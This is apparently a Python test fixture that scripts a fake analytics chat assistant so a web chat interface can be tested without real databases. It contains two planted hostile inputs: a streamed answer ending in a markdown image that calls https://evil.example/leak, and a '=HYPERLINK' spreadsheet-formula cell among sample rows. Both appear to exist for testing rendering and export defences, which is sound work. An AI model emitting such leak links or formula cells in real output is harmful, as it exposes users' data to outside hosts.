"""A stand-in for the services: a scripted assistant, so that the chat is tested without databases to ask."""

import asyncio
import contextlib
import datetime as dt
import os
from collections.abc import AsyncGenerator, AsyncIterator, Callable
from dataclasses import dataclass, field, replace
from functools import lru_cache
from types import SimpleNamespace
from typing import Any

from agent.events import (
    LAST,
    Answer,
    Answered,
    ChartReady,
    Clarify,
    Event,
    Failed,
    RowsReady,
    SqlReady,
    StepFinished,
    StepStarted,
    Token,
    WordsReady,
)
from agent.refusing import failure
from agent.rooms import spoken
from appdb.audit import AuditLog
from appdb.drafts import DraftStore
from appdb.pool import AppDatabase
from appdb.results import ResultStore
from appdb.share import Share
from appdb.traces import NO_TRACE, ToKeep, TraceStore
from appdb.turns import Held, TurnStore
from appdb.users import PeopleStore, User
from assistant import Assistant
from config.settings import Settings, settings
from database.dialects import POSTGRES
from database.result import QueryResult, ResultColumn
from database.rights import Rights
from errors import WenshuError
from knowledge.base import KnowledgeBase
from knowledge.records import RecordStore
from teaching.notes import NoteStore
from teaching.upkeep.review import ReviewStore
from understanding.metric.changing import Change

SQL = """SELECT area_name AS 服务区, sum(amount) AS 营业额
FROM daily_revenue
WHERE day >= '2026-10-01' AND day < '2026-11-01'
GROUP BY 1 ORDER BY 2 DESC LIMIT 5"""
COLUMNS = [{"name": "服务区", "type": "text"}, {"name": "营业额", "type": "number"}]
ROWS: list[list[Any]] = [
    ["南城服务区", 1284300.5], ["北湖服务区", 1103220.0], ["东岭服务区", 984110.25],
    ["=HYPERLINK(\"x\")", 903000], ["河口服务区", None],
]  # fmt: skip
# What an answer over a metric may be changed into, and drawn as.
CHANGEABLE: dict[str, Any] = {
    "charts": [{"kind": "bar", "x": 0, "y": [1], "adds": True}, {"kind": "pie", "x": 0, "y": [1]}],
    "totals": [None, 4274630.75],
    "query": {"version": 1, "metrics": ["revenue"]},
    "parts": [{"kind": "period", "name": "时间", "label": "上个月"}],
}
FEATURES = {
    "viewer": {"see_sql", "export"},
    "analyst": {"see_sql", "export", "upload"},
    "admin": {"see_sql", "edit_sql", "export", "upload", "train", "admin"},
}


class ScriptedAssistant(Assistant):
    """The real one's turns, with answers by the words of the question."""

    def __init__(self, names: list[str], turns: TurnStore, results: ResultStore, traces: TraceStore) -> None:
        rooms: Any = SimpleNamespace(
            settings=settings(),
            databases=SimpleNamespace(names=names),
            turns=turns,
            results=results,
            traces=traces,
            graph=SimpleNamespace(checkpointer=None),
            hooks=(),
        )
        super().__init__(rooms)

    async def ask(self, question: str, **who: Any) -> AsyncGenerator[Event, None]:
        """Answer, or break where the question wants that."""
        if "boom" in question:
            raise RuntimeError("a secret cause")
        async with contextlib.aclosing(super().ask(question, **who)) as events:
            async for event in events:
                yield event

    def _attempt(self, held: Held, user: User) -> "ScriptedAttempt":  # type: ignore[override]
        return ScriptedAttempt(held, user, self._rooms.results, self._rooms.traces)


@dataclass
class ScriptedAttempt:
    """One scripted try."""

    held: Held
    user: User
    results: ResultStore
    traces: TraceStore
    told: ToKeep = NO_TRACE

    async def go(self, put: Callable[[Event], None]) -> Any:
        """Put what happens, and return the last event."""
        turn = self.held.turn
        async for event in self._events(turn.question, spoken(turn)):
            if isinstance(event, LAST):
                answer = replace(event.answer, id=turn.id, thread=turn.thread)
                return type(event)(answer)
            put(event)
        raise AssertionError("every script has an end")

    def failed(self, error: WenshuError) -> Answer:
        """Return the answer that says what went wrong."""
        return failure(error, self.held.turn.question, spoken(self.held.turn))

    def audited(self, ends: str, answer: Answer | None) -> dict[str, Any]:
        """Return a short record."""
        turn = self.held.turn
        code = answer.failure["code"] if answer and answer.failure else None
        return {"who": turn.owner, "act": "ask", "question": turn.question, "code": code}

    def traced(self, ends: str, answer: Answer | None) -> ToKeep:
        """Return the trace that the script told."""
        return self.told

    async def tell(self, ends: str, answer: Answer | None) -> None:
        """Tell nobody."""

    async def _events(self, question: str, spoken: str) -> AsyncIterator[Event]:
        if "稍等" in question:
            yield StepStarted("generate_sql", "0")
            yield Token("正在想")
            await asyncio.sleep(3)
            yield StepFinished("generate_sql", "0", True, 3000.0, SQL, "sql")
            yield Answered(Answer("data", "想好了", question))
        elif "为什么" in question:
            async for event in self._looking_further(question):
                yield event
        elif "慢" in question or "slow" in question:
            async for event in self._slow(question):
                yield event
        elif "荔枝" in question or "lychee" in question:
            for part in ("荔枝一般", "在五月到七月", "上市。![x](https://evil.example/leak?d=1)"):
                yield Token(part)
            yield Answered(
                Answer(
                    "general",
                    "荔枝一般在五月到七月上市。![x](https://evil.example/leak?d=1)",
                    question,
                    source="general",
                )
            )
        elif "哪个" in question or "which" in question:
            readings = (
                ["按营业额最高", "按车流量最高"] if spoken == "zh" else ["Highest revenue", "Most vehicles"]
            )
            text = "“最高”指营业额还是车流量？" if spoken == "zh" else "Highest by revenue, or by vehicles?"
            yield Clarify(Answer("clarify", text, question, suggestions=readings))
        elif "失败" in question or "fail" in question:
            yield Failed(
                Answer(
                    "failed",
                    "数据库现在连不上，请稍后再问。",
                    question,
                    failure={"code": "database_unreachable", "reason": ""},
                )
            )
        else:
            async for event in self._data(question, spoken, self.user, self.held.turn.thread):
                yield event

    async def _looking_further(self, question: str) -> AsyncIterator[Event]:
        """Compute at once; the model's words come in a moment, or are long in coming."""
        yield SqlReady(SQL, "metric")
        yield RowsReady("", COLUMNS, ROWS, len(ROWS), False)
        yield WordsReady("算出来多了 100 元。")
        yield StepStarted("analyse", "0")
        await asyncio.sleep(60.0 if "很久" in question else 0.5)
        yield StepFinished("analyse", "0", True, 500.0, "")
        yield Token("是南城多了 100 元。")
        said = Answer(
            "data", "是南城多了 100 元。", question, sql=SQL, columns=COLUMNS, rows=ROWS, row_count=len(ROWS)
        )
        yield Answered(said)

    async def _data(self, question: str, spoken: str, user: User, thread: str) -> AsyncIterator[Event]:
        rows = [[f"服务区 {n:04}", n * 1234.5] for n in range(1, 1001)] if "1000" in question else ROWS
        columns = COLUMNS
        if "每月" in question:
            columns = [{"name": "月份", "type": "date"}, {"name": "占比", "type": "number"}]
            rows = [["2026-09-01", 0.1234], ["2026-10-01", 0.5], ["2026-11-01", 0.00002]]
        for number, (step, note, coloured) in enumerate(
            [
                ("generate_sql", SQL, "sql"),
                ("valid_sql", "EXPLAIN 12.5", ""),
                ("run_sql", f"{len(rows)} rows", ""),
            ]
        ):
            yield StepStarted(step, str(number))
            await asyncio.sleep(0.02)
            yield StepFinished(step, str(number), True, 20.0, note, coloured)
        yield SqlReady(SQL, "verified")
        whole = QueryResult(
            tuple(ResultColumn(**column) for column in columns), tuple(tuple(row) for row in rows), False, 1.0
        )
        rights = ScriptedAccess().rights(user, "demo").fingerprint()
        kept = await self.results.save(user.name, thread, rights, whole.to_json())
        yield RowsReady(kept, columns, rows, len(rows), False)
        bars = {"type": "bar", "x": [row[0] for row in rows[:5]], "y": [row[1] for row in rows[:5]]}
        yield ChartReady({"data": [bars], "layout": {}})
        yield StepStarted("generate_summary", "3")
        words = (
            "上个月营业额最高的是南城服务区，共 1,284,300.5 元。"
            if spoken == "zh"
            else "Nancheng leads with 1,284,300.5 last month."
        )
        for start in range(0, len(words), 6):
            yield Token(words[start : start + 6])
            await asyncio.sleep(0.01)
        yield StepFinished("generate_summary", "3", True, 50.0, "")
        following = (
            ["那南城服务区呢？", "按支付方式分一下"]
            if spoken == "zh"
            else ["And Nancheng?", "Split it by payment method"]
        )
        steps = [
            {"kind": "tool", "name": "generate_sql", "at_ms": 0.0, "ms": 20.0, "ok": True, "output": SQL}
        ]
        asked = {"question": question, "asked": question, "thread": thread, "kind": "data"}
        told = {**asked, "ms": 20.0, "model_calls": 0, "tokens": [0, 0], "steps": steps}
        self.told = self.traces.to_keep("demo", rights, told)
        chart = {"data": [bars], "layout": {}}
        yield Answered(
            Answer(
                "data",
                words,
                question,
                chart=chart,
                result_id=kept,
                sql=SQL,
                columns=columns,
                rows=rows,
                row_count=len(rows),
                source="verified",
                suggestions=following,
                **(CHANGEABLE if "服务区" in question else {}),
                interpretation=["数据来自：daily_revenue", "时间：2026-10-01 至 2026-10-31"],
            )
        )

    async def _slow(self, question: str) -> AsyncIterator[Event]:
        yield StepStarted("generate_sql", "0")
        yield Token("正在想")
        await asyncio.sleep(60)
        yield Answered(Answer("data", "想好了", question))


class ScriptedAccess:
    """Rights by role alone."""

    def features(self, user: User) -> frozenset[str]:
        """Return a role's features."""
        return frozenset(FEATURES[user.role])

    def may_use(self, user: User, connection: str) -> bool:
        """Keep one database to admins."""
        return connection != "secret" or user.role == "admin"

    def rights(self, user: User, connection: str) -> Rights:
        """Let everybody see everything."""
        return Rights(role=user.role, connection=connection)


@dataclass
class ScriptedDatabases:
    """Databases by name alone."""

    names: list[str]
    unopened: dict[str, WenshuError] = field(default_factory=dict)

    def get(self, name: str) -> Any:
        """Return one, with how it is called."""
        spec = SimpleNamespace(display_zh=f"{name}（演示）", display_en=f"{name} (demo)")
        return SimpleNamespace(spec=spec, dialect=POSTGRES)

    def owned(self, owner: str) -> tuple[str, ...]:
        """Nobody has one of their own."""
        return ()

    def owner(self, name: str) -> str:
        """Return nobody."""
        return ""

    def find(self, name: str) -> Any:
        """Find none: what is uploaded is held to what was taught."""
        return None


class ScriptedTaught:
    """No metric is defined."""

    async def today(self, connection: str, rights: Rights) -> dt.date:
        """Return the clock's day."""
        return settings().current_date()

    async def changes(self, asked: Any, place: int, *who: Any) -> tuple[Change, ...]:
        """Offer the month that is there, and the one before."""
        before = {**asked, "from": "2026-09-01", "until": "2026-10-01"}
        return (
            Change("上个月", "上个月的营业额", dict(asked), current=True),
            Change("2026-09", "2026-09 各服务区的营业额", before),
        )

    async def askable(self, *who: Any) -> tuple[str, ...]:
        """Return no question."""
        return ()


class NoFiles:
    """Nobody has files of their own."""

    def asked_in(self, owner: str, thread: str) -> None:
        """Return none."""

    async def follow(self) -> None:
        """Follow nothing."""

    async def sweep(self) -> None:
        """Delete nothing."""


@dataclass
class ScriptedServices:
    """What the chat asks of the services."""

    settings: Settings
    app_database: AppDatabase
    people: PeopleStore
    assistant: ScriptedAssistant
    access: ScriptedAccess
    databases: ScriptedDatabases
    knowledge: KnowledgeBase
    taught: ScriptedTaught
    audit: AuditLog
    turns: TurnStore
    notes: NoteStore
    drafts: DraftStore
    reviews: ReviewStore
    results: ResultStore
    traces: TraceStore

    own_files: "NoFiles"

    async def forget(self, owner: str, thread: str) -> None:
        """Forget a conversation."""
        await self.assistant.forget(owner, thread)

    async def problems(self) -> list[str]:
        """Nothing is ever wrong."""
        return []


_built: list[tuple[ScriptedServices, AppDatabase]] = []


async def open_services() -> ScriptedServices:
    """Build them on the database that APP_DATABASE_URL names, with one person of each role."""
    given = settings().app_database_url
    assert given is not None
    url = given.get_secret_value()
    database = await AppDatabase.open(url, size=4)
    people, results = PeopleStore(database), ResultStore(database)
    traces = TraceStore(database, settings().trace_days)
    for role in FEATURES:
        await people.put(role, f"{role}-password", role, display_name=role.title())
    names = os.environ.get("TEST_DATABASES", "demo").split(",")
    running, waiting = map(int, os.environ.get("TEST_SHARE", "1000 1000").split())
    turns = TurnStore(database, Share(running, waiting))
    built = ScriptedServices(
        settings=settings(),
        app_database=database,
        people=people,
        assistant=ScriptedAssistant(names, turns, results, traces),
        access=ScriptedAccess(),
        databases=ScriptedDatabases(names),
        knowledge=KnowledgeBase(settings(), RecordStore(database)),
        taught=ScriptedTaught(),
        audit=AuditLog(database),
        turns=turns,
        notes=NoteStore(database),
        drafts=DraftStore(database),
        reviews=ReviewStore(database),
        results=results,
        traces=traces,
        own_files=NoFiles(),
    )
    _built.append((built, database))
    return built


async def close_services() -> None:
    """Let go of the database."""
    built, database = _built.pop()
    await built.assistant.close()
    await database.close()


@lru_cache(maxsize=1)
def _first() -> ScriptedServices:
    return _built[0][0]


def services() -> ScriptedServices:
    """Return what `open_services` built."""
    return _first()
